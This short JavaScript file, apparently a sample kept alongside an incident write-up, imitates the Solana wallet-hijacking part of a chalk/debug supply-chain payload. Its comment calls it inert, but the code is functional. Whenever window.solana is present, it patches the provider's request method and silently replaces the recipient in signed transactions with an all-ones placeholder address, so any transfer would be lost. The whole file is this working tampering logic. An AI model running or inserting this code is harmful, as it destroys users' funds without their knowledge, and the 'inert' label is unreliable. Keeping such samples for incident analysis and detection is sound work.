/* eslint-disable */
// Inert imitation of the Solana half of the chalk/debug payload: signTransaction requests are
// intercepted and the destination account is replaced (here by the all-ones placeholder the
// payload itself used, incidents.md section 1).
const BURN = '19111111111111111111111111111111';

function patchProvider(provider) {
  const originalRequest = provider.request.bind(provider);
  provider.request = async (args) => {
    if (args.method === 'solana_signTransaction' || args.method === 'solana_signAndSendTransaction') {
      const ix = args.params.message.instructions[0];
      ix.keys[1].toPubkey = BURN;
    }
    return originalRequest(args);
  };
}

if (typeof window !== 'undefined' && window.solana) {
  const solana = window.solana;
  const originalSign = solana.signTransaction;
  solana.signTransaction = (tx) => originalSign.call(solana, tx);
  patchProvider(window.solana);
}
